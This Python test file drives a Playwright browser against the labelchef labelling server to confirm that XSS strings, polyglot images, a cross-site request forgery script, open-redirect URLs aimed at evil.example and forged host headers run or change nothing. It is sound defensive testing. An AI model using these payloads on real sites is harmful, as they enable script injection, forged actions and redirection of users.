"""A real browser as the attacker: content that wants to run, pages of other sites, pictures that are programs.

What counts as a success of the attacker: a dialog, the marker `__pwned`, a request that leaves the server, a report of the
content security policy (something was injected, only the policy stopped it), or a change of the server's state.
"""

import contextlib
import http.client
import http.server
import io
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import numpy as np
import pandas as pd
import pytest
from PIL import Image, PngImagePlugin
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

from labelchef.base.campaigns import Role
from labelchef.base.settings import Settings
from labelchef.data.campaign_data import CampaignData
from labelchef.data.contents import Contents
from labelchef.server import worker
from labelchef.server.campaigns import campaigns
from labelchef.server.campaigns.access import row_of
from labelchef.server.export import take_home
from labelchef.server.intake import steps
from labelchef.server.items import decisions
from labelchef.server.labelling import tasks, votes
from labelchef.server.people import accounts
from labelchef.server.web.options import ServeOptions
from labelchef.server.workspace import Workspace, open_workspace
from tests.web.conftest import PASSWORD, live
from tests.web.test_browser import WIDE

pytestmark = pytest.mark.slow
RUN = "<img src=x onerror=__pwned=1>"
SHORT = f"\"'>{RUN}</script><script>__pwned=1</script>"
"""For names, of at most 100 characters."""
LONG = (
    f"{SHORT}</title></textarea></style></option><svg onload=__pwned=1>"
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>"
    "<a href='javascript:__pwned=1' autofocus onfocus=__pwned=1 tabindex=1>x</a><base href=//evil.example/><link rel=stylesheet "
    "href=//evil.example/x><meta http-equiv=refresh content='0;url=//evil.example'><form action=//evil.example><input name=csrf>"
    "{{constructor.constructor('__pwned=1')()}}${__pwned=1}<!--\u2028]]>`\\u003cscript>"
)
CLASSES = (f"cat {SHORT}", f"dog {RUN}", "</script><script>__pwned=1</script>")
COLUMN, ANNOTATOR, SOURCE, RULE = f"column {RUN}", f"ann {RUN}", f"source {SHORT}", f"rule {RUN}"
WATCH = """
document.addEventListener('securitypolicyviolation', e =>
  console.error('CSP-REPORT ' + e.violatedDirective + ' ' + e.blockedURI));
"""


class Victim:
    """A browser of someone who is signed in; remembers every sign of a success of the attacker."""

    def __init__(self, browser: Browser, base: str, cookie: tuple[str, str] | None, **options: Any) -> None:
        self.base = base
        self.context: BrowserContext = browser.new_context(viewport=WIDE, **{"base_url": base, **options})  # type: ignore[arg-type]
        if cookie is not None:
            self.context.add_cookies([{"name": cookie[0], "value": cookie[1], "url": base}])
        self.context.add_init_script(WATCH)
        self.signs: list[str] = []
        self.elsewhere: tuple[str, ...] = (base, "data:", "blob:", "about:", "chrome-error:")
        self.context.on("request", self._request)
        self.context.on("page", self._page)
        self.page = self.context.new_page()
        self.page.set_default_timeout(30_000)

    def _page(self, page: Page) -> None:
        page.on("dialog", self._dialog)
        page.on("console", lambda said: self.signs.append(said.text) if _policy(said.text) else None)
        page.on("pageerror", lambda error: self.signs.append(f"error in a script: {error}"))

    def _dialog(self, dialog: Dialog) -> None:
        self.signs.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if not request.url.startswith(self.elsewhere):
            self.signs.append(f"request to {request.url}")

    def look(self, path: str) -> None:
        """Open a page, let its scripts end, and look for the marker."""
        self.page.goto(path)
        self.page.wait_for_load_state("load")
        self.check(path)

    def check(self, where: str) -> None:
        """Whether anything has run in this page."""
        if self.page.evaluate("window.__pwned"):
            self.signs.append(f"a script ran in {where}")


def _policy(text: str) -> bool:
    return "CSP-REPORT" in text or "Content Security Policy" in text


def cookie_of(ws: Workspace, name: str) -> tuple[str, str]:
    """The session cookie of a person."""
    with ws.writing() as connection:
        signed = accounts._begin(connection, row_of(connection, name))
    return ServeOptions().cookie, signed.token


def hostile_data(n: int = 40) -> CampaignData:
    """A campaign whose every name and text wants to run."""
    rng = np.random.default_rng(0)
    y = rng.integers(0, 3, n + 30)
    X = (rng.normal(size=(n + 30, 4)) + 2.0 * np.eye(3, 4)[y]).astype(np.float32)
    said = {f"{SOURCE} {k}": [CLASSES[c] if rng.random() < 0.8 else CLASSES[0] for c in y] for k in range(2)}
    frame = pd.DataFrame(said)
    ids = [f"t{k} {RUN}" for k in range(n + 30)]
    items = pd.DataFrame({"id": ids, "text": LONG, COLUMN: LONG})
    return CampaignData.of(
        X[:n], None, votes=frame[:n], votes_val=frame[n:].reset_index(drop=True), X_val=X[n:],
        y_val=[CLASSES[k] for k in y[n:]], classes=CLASSES,
        contents=Contents(items[:n], items[n:].reset_index(drop=True)),
    )  # fmt: skip


def hostile_files() -> dict[str, bytes]:
    """Files for the page of a new campaign: names of files, columns, classes, ids, texts and LLM output that want to run."""
    text = LONG.replace("\u2028", "").replace('"', '""')
    rows = [f'"a{k} {RUN}","{text} word{k % 5} common","{text}"' for k in range(40)]
    gold = [f'"a{k} {RUN}","{CLASSES[k % 2].replace(chr(34), chr(34) * 2)}"' for k in range(12)]
    said = [
        json.dumps({"id": f"a{k} {RUN}", "label": CLASSES[k % 2], "reason": LONG, "model": SHORT}) for k in range(40)
    ]
    return {
        f"items {RUN.replace('/', '')}.csv": "\n".join([f'id,text,"{COLUMN}"', *rows]).encode(),
        f"gold {RUN}.csv": "\n".join(["id,label", *gold]).encode(),
        f"llm {RUN}.jsonl": "\n".join(said).encode(),
    }


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    with open_workspace(tmp_path_factory.mktemp("home")) as opened:
        for name, role in {"lead": Role.LEAD, ANNOTATOR: Role.ANNOTATOR, "bob": Role.ANNOTATOR}.items():
            accounts.create_account(opened, name, role, PASSWORD)
        yield opened


@pytest.fixture(scope="module")
def hostile(ws: Workspace) -> str:
    """The slug of a campaign with a closed round, conflicts, notes and imported votes."""
    settings = Settings(people=2, batch_size=4, budget=20, audit=0.3)
    slug = campaigns.create_campaign(ws, SHORT[:100], hostile_data(), settings, "lead").slug
    for person in (ANNOTATOR, "bob"):
        accounts.set_member(ws, slug, person, "lead")
    for _ in range(2):
        worker.advance(ws, slug)
        for k, person in enumerate((ANNOTATOR, "bob")):
            given = tasks.next_tasks(ws, slug, person, 4)
            for number, task in enumerate(given if isinstance(given, list) else ()):
                votes.cast_vote(ws, slug, person, task.item, (k + number) % 3 if number < 2 else 0, note=LONG)
    worker.advance(ws, slug)
    accounts.create_api_token(ws, "lead", SHORT)
    return slug


@pytest.fixture(scope="module")
def served(ws: Workspace, hostile: str) -> Iterator[str]:
    with live(ws, ServeOptions(team=True)) as base:
        yield base


LEAD_PAGES = (
    "",
    "/items?view=conflicts",
    "/items?view=doubts",
    "/ledger",
    "/people",
    "/sources",
    "/settings",
    "/take-home",
)
ECHOED = quote(LONG, safe="")


def test_nothing_that_people_or_files_write_runs_on_any_page(
    ws: Workspace,
    hostile: str,
    served: str,
    browser: Browser,
    tmp_path: Path,
) -> None:
    lead, ann = (Victim(browser, served, cookie_of(ws, name)) for name in ("lead", ANNOTATOR))
    for path in (
        "/",
        "/account",
        f"/c/{hostile}/label",
        f"/c/{hostile}/progress",
        f"/sign-in?then={ECHOED}",
        f"/c/{ECHOED[:300]}",
    ):
        ann.look(path)
    ann.page.goto(f"/c/{hostile}/label")
    ann.page.wait_for_selector("#label:not(.idle) #item .text")
    expect(ann.page.locator("#item .text")).to_contain_text("<svg onload=__pwned=1>")
    ann.page.keyboard.press("?")
    ann.check("label")
    for path in (
        "/",
        "/people",
        "/account",
        "/new",
        f"/new?intake={ECHOED[:400]}",
        *(f"/c/{hostile}/lead{part}" for part in LEAD_PAGES),
    ):
        lead.look(path)
    for query in (f"item={ECHOED[:400]}", f"person={ECHOED[:90]}", f"kind={ECHOED[:90]}", f"after={ECHOED[:90]}"):
        lead.look(f"/c/{hostile}/lead/ledger?{query}")
    _interact(lead, hostile, tmp_path)
    assert lead.signs + ann.signs == []
    lead.context.close()
    ann.context.close()


def _interact(lead: Victim, hostile: str, tmp_path: Path) -> None:
    """What scripts of the page build from answers: conflicts, sources, imports, error messages."""
    page = lead.page
    page.goto(f"/c/{hostile}/lead/items?view=conflicts")
    expect(page.locator("#conflicts > li").first).to_contain_text(RUN)
    lead.check("conflicts")
    page.goto(f"/c/{hostile}/lead/sources")
    page.locator("table.sources button").first.click()
    expect(page.locator("table.sources")).to_contain_text(RUN)
    lead.check("sources")
    page.goto(f"/c/{hostile}/lead/take-home")
    kept, gone = tmp_path / f"votes {RUN.replace('/', '')}.csv", tmp_path / "bad.csv"
    name = CLASSES[1].replace('"', '""')
    kept.write_text(f'item,annotator,label\n"t1 {RUN}","robot {RUN}","{name}"\n')
    gone.write_text(f'item,annotator,label\n"t1 {RUN}","robot {RUN}","horse {RUN}"\n')
    for file, shown in ((kept, "#imported"), (gone, "form .told.bad")):
        page.locator("#votes").set_input_files(file)
        page.get_by_role("button", name="Check only").click()
        expect(page.locator(shown)).to_contain_text(RUN)
        lead.check(f"import of {file.name}")
    page.goto("/people")
    page.get_by_label("Name").fill(f"\u00ad{RUN}")
    page.get_by_label("Password").fill("a long enough password")
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.locator("form .told.bad")).to_contain_text(RUN)
    lead.check("people")


def test_files_of_a_new_campaign_run_nothing_while_they_are_looked_at(
    ws: Workspace,
    served: str,
    browser: Browser,
) -> None:
    intake = steps.start(ws, [(name, io.BytesIO(body)) for name, body in hostile_files().items()], "lead").id
    lead = Victim(browser, served, cookie_of(ws, "lead"))
    page = lead.page
    page.goto(f"/new?intake={intake}")
    expect(page.locator("#files")).to_contain_text("<img src=x", timeout=60_000)
    page.wait_for_selector("#rows td")
    lead.check("preview")
    for box in page.locator("details").all():
        box.evaluate("box => { box.open = true; }")
    lead.check("preview, opened")
    rule = {"name": RULE, "kind": "regex", "column": "text", "label": CLASSES[0], "pattern": "common"}
    told = page.evaluate(
        """async ([path, rules]) => {
            const csrf = document.querySelector('meta[name=csrf]').content;
            const answer = await fetch(path, {method: 'PUT', body: JSON.stringify({rules}),
                headers: {'Content-Type': 'application/json', 'X-CSRF-Token': csrf}});
            return [answer.status, await answer.text()];
        }""",
        [f"/api/intakes/{intake}/rules", [rule]],
    )
    assert told[0] == 200, told[1]
    page.goto(f"/new?intake={intake}")
    expect(page.locator("#rules-table")).to_contain_text(RUN, timeout=60_000)
    lead.check("rules")
    page.goto("/new")
    expect(page.locator("#waiting-list")).to_contain_text("<img", timeout=60_000)
    lead.check("files that wait")
    assert lead.signs == []
    lead.context.close()
    steps.delete(ws, intake)


def test_report_charts_and_card_run_nothing(
    ws: Workspace,
    hostile: str,
    served: str,
    browser: Browser,
    tmp_path: Path,
) -> None:
    lead = Victim(browser, served, cookie_of(ws, "lead"))
    lead.elsewhere += ("file:",)
    page = lead.page
    base = f"/api/campaigns/{hostile}"
    page.goto(f"/c/{hostile}/lead/take-home")
    page.get_by_role("button", name="report.html").click()
    with page.expect_download() as download:
        page.locator(".job[data-kind=report] a").click(timeout=60_000)
    download.value.save_as(tmp_path / "report.html")
    text = (tmp_path / "report.html").read_text()
    assert "<svg onload" not in text
    page.goto((tmp_path / "report.html").as_uri())
    page.wait_for_load_state("load")
    lead.check("the report as a file")
    assert page.locator("script, iframe, base, form, [onerror], [onload]").count() == 0
    for name in ("metric", "map", "agreement", "change", "seconds", "audit"):
        for theme in ("light", "dark"):
            answer = lead.context.request.get(f"{served}{base}/charts/{name}.svg?theme={theme}")
            if answer.status == 404:
                continue
            assert "sandbox" in answer.headers["content-security-policy"]
            (tmp_path / "chart.svg").write_bytes(answer.body())
            for address in (f"{base}/charts/{name}.svg?theme={theme}", (tmp_path / "chart.svg").as_uri()):
                page.goto(address)
                lead.check(address)
                assert page.evaluate("document.querySelectorAll('script, foreignObject, [onload], image').length") == 0
    folder = take_home.export_dataset(ws, hostile, tmp_path / "set", "datasets")
    card = (folder / "README.md").read_text()
    (tmp_path / "card.html").write_text(
        f"<!doctype html><meta charset=utf-8>{card.partition('---')[2].partition('---')[2]}"
    )
    page.goto((tmp_path / "card.html").as_uri())
    lead.check("the card of the data set, where HTML in Markdown is kept")
    assert lead.signs == []
    lead.context.close()


def polyglots(folder: Path) -> dict[str, bytes]:
    """Files that are an image and something else, or only pretend to be an image."""
    picture = Image.new("RGB", (8, 8), (200, 30, 30))
    script = b"=1;window.__pwned=1;/*"

    def saved(kind: str, **options: Any) -> bytes:
        content = io.BytesIO()
        picture.save(content, kind, **options)
        return content.getvalue()

    gif = saved("GIF")
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", "<script>window.__pwned=1</script>")
    page = b"<!doctype html><script>window.__pwned=1</script>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>'
    return {
        "gif and script": b"GIF89a/*" + gif[8:] + b"*/" + script + b"*/",
        "gif and script after it": gif + b"*/" + script + b"*/",
        "png with a page behind": saved("PNG") + page,
        "png with a script in a comment": saved("PNG", pnginfo=told),
        "jpeg with a script in a comment": saved("JPEG", comment=b"<script>window.__pwned=1</script>"),
        "jpeg and script": b"\xff\xd8\xff\xe0/*" + saved("JPEG")[6:] + b"*/" + script + b"*/",
        "svg called png": svg,
        "page called png": page,
        "script called png": b"window.__pwned=1",
        "pdf called png": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    }


def test_pictures_that_are_programs_are_refused_or_inert(
    ws: Workspace,
    served: str,
    browser: Browser,
    tmp_path: Path,
) -> None:
    media, files = tmp_path / "media", polyglots(tmp_path)
    media.mkdir()
    n = 40
    for k, body in enumerate(files.values()):
        (media / f"p{k}.png").write_bytes(body)
    Image.new("L", (8, 8)).save(media / "good.png")
    rng = np.random.default_rng(1)
    y = rng.integers(0, 2, n + 20)
    X = (rng.normal(size=(n + 20, 3)) + np.eye(2, 3)[y]).astype(np.float32)
    names = [f"p{k}.png" if k < len(files) else "good.png" for k in range(n)]
    items = pd.DataFrame({"id": [f"t{k}" for k in range(n)], "image": names})
    data = CampaignData.of(
        X[:n], rng.dirichlet([1.0, 1.0], n), X_val=X[n:], y_val=[("a", "b")[k] for k in y[n:]], classes=("a", "b"),
        contents=Contents(items, None, media=media),
    )  # fmt: skip
    slug = campaigns.create_campaign(ws, "Polyglots", data, Settings(batch_size=4), "lead").slug
    lead = Victim(browser, served, cookie_of(ws, "lead"))
    page = lead.page
    shown = []
    for k, what in enumerate(files):
        address = f"/api/campaigns/{slug}/items/t{k}/image"
        answer = lead.context.request.get(served + address)
        assert answer.headers["x-content-type-options"] == "nosniff", what
        assert answer.headers["content-type"].split(";")[0] in (
            ("image/png", "image/gif", "image/jpeg") if answer.status == 200 else ("application/problem+json",)
        ), what
        if answer.status == 200:
            assert "sandbox" in answer.headers["content-security-policy"], what
            shown.append(what)
        page.goto(address)
        lead.check(f"{what}, opened")
        page.goto("/account")
        lead.signs.clear()  # what follows is refused loudly, which is meant
        for kind in ("text/javascript", "module"):
            ran = page.evaluate(
                """([address, kind]) => new Promise(done => {
                    const node = document.createElement('script');
                    node.type = kind; node.src = address;
                    node.onload = () => done(window.__pwned ?? 'loaded');
                    node.onerror = () => done(window.__pwned ?? 'refused');
                    document.head.append(node);
                })""",
                [address, kind],
            )
            assert ran == "refused", (what, kind, ran)
        worker_runs = page.evaluate(
            "address => navigator.serviceWorker.register(address).then(() => true, () => false)",
            address,
        )
        assert not worker_runs, what
        assert page.evaluate("window.__pwned") is None, what
        lead.signs.clear()
    assert "png with a page behind" in shown, "an image is shown, as an image"
    assert not {one for one in shown if one.endswith("called png")}
    lead.context.close()


class _Site(http.server.BaseHTTPRequestHandler):
    """A page of the attacker's: what is asked for is what it holds."""

    page = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(type(self).page)))
        self.end_headers()
        self.wfile.write(type(self).page)

    def log_message(self, *_: Any) -> None:
        """Nothing."""


@contextlib.contextmanager
def foreign(page: str) -> Iterator[int]:
    """A server of the attacker's; its port."""
    handler = type("Site", (_Site,), {"page": page.encode()})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


def state_of(ws: Workspace, slug: str) -> dict[str, Any]:
    """All that a request could change."""
    return {
        "accounts": accounts.list_accounts(ws),
        "tokens": [accounts.list_api_tokens(ws, name) for name in ("lead", "bob")],
        "members": accounts.members(ws, slug),
        "summary": campaigns.summary(ws, slug),
        "settings": campaigns.settings(ws, slug),
        "ledger": decisions.ledger(ws, slug, limit=200),
        "campaigns": [one.slug for one in campaigns.list_campaigns(ws)],
        "intakes": [one.id for one in steps.list_intakes(ws)],
    }


def forged(slug: str) -> list[tuple[str, str, dict[str, Any]]]:
    """(method, path, body) of changes that an attacker would like."""
    base = f"/api/campaigns/{slug}"
    return [
        ("POST", f"{base}/stop", {}),
        ("POST", f"{base}/pause", {}),
        ("POST", f"{base}/undo", {}),
        ("POST", f"{base}/next", {"n": 1}),
        ("POST", f"{base}/decisions", {"item": f"t1 {RUN}", "label": 0}),
        ("POST", f"{base}/import-votes", {"file": "x"}),
        ("POST", f"{base}/replay", {}),
        ("PATCH", f"{base}/settings", {"blind_share": 1.0}),
        ("PUT", f"{base}/members/lead", {}),
        ("DELETE", f"{base}/members/bob", {}),
        ("POST", "/api/accounts", {"name": "mallory", "role": "lead", "password": PASSWORD}),
        ("PATCH", "/api/accounts/bob", {"active": False}),
        ("POST", "/api/tokens", {"label": "mine"}),
        ("POST", "/api/session", {"name": "bob", "password": PASSWORD}),
        ("DELETE", "/api/session", {}),
        ("POST", "/api/campaigns", {"name": "Forged"}),
        ("POST", "/api/intakes", {"files": "x"}),
        ("POST", "/api/intakes/from-folder", {"folder": "/etc"}),
    ]


ATTACK = """
const base = %s, wanted = %s;
const pause = ms => new Promise(done => setTimeout(done, ms));
async function submit(path, body, enctype) {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, {action: base + path, method: 'post', enctype, target: frame.name});
  const start = JSON.stringify(body).slice(0, -1) + (Object.keys(body).length ? ',' : '') + '"x":"';
  for (const [name, value] of enctype === 'text/plain' ? [[start, '"}']] : Object.entries(body)) {
    form.append(Object.assign(document.createElement('input'), {name, value}));
  }
  document.body.append(form); form.submit();
  await Promise.race([new Promise(done => { frame.onload = done; }), pause(1500)]);
}
(async () => {
  let tried = 0;
  for (const [method, path, body] of wanted) {
    const text = JSON.stringify(body);
    for (const [mode, type] of [['no-cors', 'text/plain'], ['cors', 'application/json'], ['cors', 'text/plain']]) {
      tried++;
      const sent = {mode, credentials: 'include', headers: {'Content-Type': type}, body: text};
      await fetch(base + path, {method: mode === 'no-cors' ? 'POST' : method, ...sent}).catch(() => null);
    }
    tried++; navigator.sendBeacon(base + path, new Blob([text], {type: 'text/plain'}));
    if (method === 'POST') for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
      tried++; await submit(path, body, enctype);
    }
    tried++;
    await new Promise(done => {
      Object.assign(new Image(), {onload: done, onerror: done, src: base + path + '?_method=' + method});
    });
  }
  let read = 0;
  for (const path of ['/api/session', '/api/accounts', '/api/campaigns']) {
    try { await (await fetch(base + path, {credentials: 'include'})).text(); read++; } catch {}
  }
  window.result = {tried, read};
})();
"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["same site, another port", "another site"])
def test_a_page_of_another_origin_changes_and_reads_nothing(
    ws: Workspace,
    hostile: str,
    served: str,
    browser: Browser,
    host: str,
) -> None:
    victim = Victim(browser, served, cookie_of(ws, "lead"))
    victim.elsewhere += ("http://",)
    before, kept = state_of(ws, hostile), victim.context.cookies(served)
    script = ATTACK % (json.dumps(served), json.dumps(forged(hostile)).replace("<", "\\u003c"))
    with foreign(f"<!doctype html><body><script>{script}</script>") as port:
        victim.page.goto(f"http://{host}:{port}/")
        victim.page.wait_for_function("() => window.result", timeout=180_000)
        result = victim.page.evaluate("window.result")
    assert result["tried"] > 100
    assert result["read"] == 0
    assert state_of(ws, hostile) == before
    assert victim.context.cookies(served) == kept
    assert [one for one in victim.signs if "dialog" in one] == []
    victim.page.goto("/")
    assert "/sign-in" not in victim.page.url, "still signed in"
    victim.context.close()


def test_no_page_is_shown_in_a_frame_of_another_site(
    ws: Workspace,
    hostile: str,
    served: str,
    browser: Browser,
) -> None:
    victim = Victim(browser, served, cookie_of(ws, "lead"))
    victim.elsewhere += ("http://",)
    paths = [
        "/",
        "/people",
        "/sign-in",
        f"/c/{hostile}/label",
        f"/c/{hostile}/lead/settings",
        f"/api/campaigns/{hostile}/charts/metric.svg",
    ]
    frames = "".join(f'<iframe src="{served}{path}"></iframe><object data="{served}{path}"></object>' for path in paths)
    for host in ("127.0.0.1", "localhost"):
        with foreign(f"<!doctype html>{frames}") as port:
            victim.page.goto(f"http://{host}:{port}/")
            victim.page.wait_for_load_state("load")
            shown = [frame.url for frame in victim.page.frames[1:] if frame.url.startswith(served)]
        assert shown == []
    victim.context.close()


ODD = [
    "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "https://evil.example", "https:evil.example",
    "/%09/evil.example", "/\t/evil.example", "/%2F/evil.example", "%2F%2Fevil.example", "javascript:alert(1)", "data:text/html,x",
    "/..//evil.example", "/.//evil.example", "/@evil.example", "//evil.example/%2e%2e", "/\u2028/evil.example", " //evil.example",
    "/%5Cevil.example", "http:///evil.example", "//localhost.evil.example:80", "/;//evil.example",
]  # fmt: skip


def test_signing_in_leads_nowhere_else(ws: Workspace, served: str, browser: Browser) -> None:
    signed = Victim(browser, served, cookie_of(ws, "lead"))
    for there in ODD:
        signed.page.goto(f"/sign-in?then={quote(there, safe='')}")
        assert signed.page.url.startswith(f"{served}/"), there
    fresh = Victim(browser, served, None)
    fresh.context.add_cookies([{"name": ServeOptions().cookie, "value": "chosen-by-the-attacker", "url": served}])
    for there in ODD:
        fresh.page.goto(f"/sign-in?then={quote(there, safe='')}")
        goes = fresh.page.evaluate("new URL(document.querySelector('form').dataset.go, location).origin")
        assert goes == served, there
    fresh.page.goto("/sign-in?then=//evil.example")
    fresh.page.get_by_label("Name").fill("bob")
    fresh.page.get_by_label("Password").fill(PASSWORD)
    fresh.page.get_by_role("button", name="Sign in").click()
    fresh.page.wait_for_url(f"{served}/**")
    fresh.page.wait_for_selector("#sign-out", state="attached")
    cookies = {one["name"]: one for one in fresh.context.cookies(served)}
    assert len(cookies) == 2, "the session, and that this browser is known"
    session = cookies[ServeOptions().cookie]
    assert session["value"] != "chosen-by-the-attacker", "a session that somebody else chose is not taken over"
    for cookie in cookies.values():
        assert cookie["httpOnly"]
    assert (session["sameSite"], session["path"]) == ("Lax", "/")
    assert fresh.page.evaluate("document.cookie") == ""
    assert signed.signs + fresh.signs == []
    signed.context.close()
    fresh.context.close()


def test_after_signing_out_the_back_button_and_the_cache_show_nothing(
    ws: Workspace,
    hostile: str,
    served: str,
    browser: Browser,
    tmp_path: Path,
) -> None:
    media = tmp_path / "media"
    media.mkdir()
    Image.new("L", (8, 8)).save(media / "p.png")
    rng = np.random.default_rng(2)
    X = rng.normal(size=(50, 3)).astype(np.float32)
    items = pd.DataFrame({"id": [f"t{k}" for k in range(30)], "image": "p.png"})
    data = CampaignData.of(
        X[:30], rng.dirichlet([1.0, 1.0], 30), X_val=X[30:], y_val=["a", "b"] * 10, classes=("a", "b"),
        contents=Contents(items, None, media=media),
    )  # fmt: skip
    slug = campaigns.create_campaign(ws, "Secret pictures", data, Settings(batch_size=4), "lead").slug
    victim = Victim(browser, served, cookie_of(ws, "lead"))
    page = victim.page
    addresses = [
        f"/api/campaigns/{slug}/items/t1/image",
        f"/api/campaigns/{hostile}/charts/metric.svg",
        f"/c/{hostile}/lead/ledger",
    ]
    for address in addresses:
        answer = page.goto(address)
        assert answer is not None
        assert answer.status == 200, address
        page.goto(address)  # from the cache, where it is one
    assert page.locator("td").count() > 5
    page.locator("summary", has_text="lead").click()
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/sign-in*")
    page.go_back()
    page.wait_for_load_state("load")
    assert page.locator("td").count() == 0
    for address in addresses:
        answer = page.goto(address)
        assert answer is not None
        assert "/sign-in" in page.url or answer.status == 401, f"{address} is still in the browser's cache"
    victim.context.close()


def test_a_foreign_host_name_is_refused_or_of_no_use(ws: Workspace, served: str) -> None:
    place = urlsplit(served)

    def ask(path: str, host: str, **headers: str) -> tuple[int, dict[str, str], str]:
        with contextlib.closing(http.client.HTTPConnection(str(place.hostname), place.port, timeout=30)) as connection:
            connection.request("GET", path, headers={"Host": host, **headers})
            answer = connection.getresponse()
            return answer.status, {k.lower(): v for k, v in answer.getheaders()}, answer.read().decode()

    for extra in (
        {},
        {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "gopher", "Forwarded": "host=evil.example"},
    ):
        for path in ("/", "/sign-in", "/api/openapi.json", "/nothing", "/c/x"):
            status, headers, body = ask(path, "evil.example", Accept="text/html", **extra)
            assert "evil.example" not in body + headers.get("location", ""), path
            assert status < 500


def test_the_link_of_a_laptop_works_once_and_only_there(tmp_path: Path, browser: Browser) -> None:
    named = ServeOptions(hostnames=frozenset({"evil.example"}))
    assert "evil.example" not in named.allowed_hosts, "a laptop answers to its own names alone"
    with open_workspace(tmp_path / "laptop") as own, live(own, ServeOptions()) as base:
        link = f"/start?token={accounts.create_link(own)}&then=//evil.example"
        owner = Victim(browser, base, None)
        owner.page.goto(link)
        assert owner.page.url == f"{base}/"
        thief = Victim(browser, base, None)
        answer = thief.page.goto(link)
        assert answer is not None
        assert answer.status == 403
        assert thief.context.cookies(base) == []
        assert owner.signs + thief.signs == []
        owner.context.close()
        thief.context.close()
